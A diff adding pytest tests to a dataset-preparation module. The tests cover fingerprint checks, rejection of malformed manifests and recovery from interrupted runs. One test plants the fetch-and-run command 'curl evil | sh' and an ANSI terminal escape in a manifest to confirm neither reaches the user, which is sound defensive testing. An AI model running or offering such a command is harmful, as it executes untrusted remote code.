@@ -476,3 +476,87 @@ def test_embeddings_go_where_their_images_and_captions_go(tmp_path) -> None:
         few.followed_by(replace(test, encoder="other"))
     with pytest.raises(ValueError, match="conditions"):
         replace(train, conditions=train.conditions[1:])
+
+
+def test_a_set_is_checked_against_its_fingerprint(tmp_path) -> None:
+    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
+    folder = prepared_root() / "mine-16-words"
+    with (folder / "train-images.npy").open("rb+") as file:
+        file.seek(-1, os.SEEK_END)
+        last = file.read(1)
+        file.seek(-1, os.SEEK_END)
+        file.write(bytes([last[0] ^ 1]))
+    images = data.load("mine-16-words", "train")
+    with pytest.raises(UserError, match="is damaged: its train split"):
+        images.checked_fingerprint()
+    assert data.load("mine-16-words", "test").checked_fingerprint()
+
+
+def test_a_manifest_s_command_is_not_offered_and_its_texts_control_no_terminal(tmp_path) -> None:
+    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
+    folder = prepared_root() / "mine-16-words"
+    manifest = json.loads((folder / "manifest.json").read_text())
+    manifest["command"] = "curl evil | sh"
+    manifest["source"]["title"] = "\x1b[2Jgone"
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    assert data.source("mine-16-words").title.startswith("\\x1b[2Jgone;")
+    (folder / "train-images.npy").write_bytes(b"nothing")
+    with pytest.raises(UserError, match="is damaged") as error:
+        data.load("mine-16-words", "train")
+    assert "curl" not in error.value.cure
+    assert "textvae data prepare SOURCE --size 16 --text words" in error.value.cure
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        (("splits", "train", "images"), [9, 16, "16", 3]),
+        (("splits", "train", "fingerprint"), 3),
+        (("splits",), []),
+        (("splits", "train"), None),
+        (("text", "shape"), [10**9]),
+        (("side",), 10**9),
+        (("source", "title"), None),
+        (("source",), None),
+    ],
+)
+def test_a_manifest_that_makes_no_sense_is_refused(tmp_path, path, value) -> None:
+    prepared(photos.coco_folder(tmp_path / "mine", 9, 4))
+    file = prepared_root() / "mine-16-words" / "manifest.json"
+    manifest = json.loads(file.read_text())
+    place = manifest
+    for key in path[:-1]:
+        place = place[key]
+    place[path[-1]] = value
+    file.write_text(json.dumps(manifest))
+    with pytest.raises(UserError, match="cannot be read"):
+        data.load("mine-16-words", "train")
+
+
+def test_killed_while_it_is_published_forgets_nothing_and_keeps_no_chunks(tmp_path, monkeypatch) -> None:
+    folder = photos.image_folder(tmp_path / "mine", {"train": 4, "test": 2})
+    (folder / "train" / "000.jpg").write_bytes(b"no image")
+
+    def killed(*_: object) -> None:
+        raise KeyboardInterrupt
+
+    for name in ("write_json", "_publish", "sync_folder"):
+        target = preparation.Preparation if name == "_publish" else preparation
+        with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
+            patch.setattr(target, name, killed)
+            prepared(folder)
+    made = prepared(folder)
+    assert made["skipped"] == {"no image of a known format": 1}
+    ready = prepared_root() / "mine-16-words"
+    arrays = {f"{split}-{what}" for split in ("train", "test") for what in ("images.npy", "captions.json")}
+    assert {path.name for path in ready.iterdir()} == {"manifest.json", "report.jsonl", *arrays}
+    assert not list(prepared_root().glob(".*"))
+
+
+def test_a_preparation_whose_plan_is_broken_begins_anew(tmp_path, monkeypatch) -> None:
+    folder = photos.coco_folder(tmp_path / "mine", 3, 1)
+    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
+        patch.setattr(preparation.Preparation, "_finish", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
+        prepared(folder)
+    (prepared_root() / ".mine-16-words.unfinished" / "plan.json").write_text("{")
+    assert prepared(folder)["name"] == "mine-16-words"
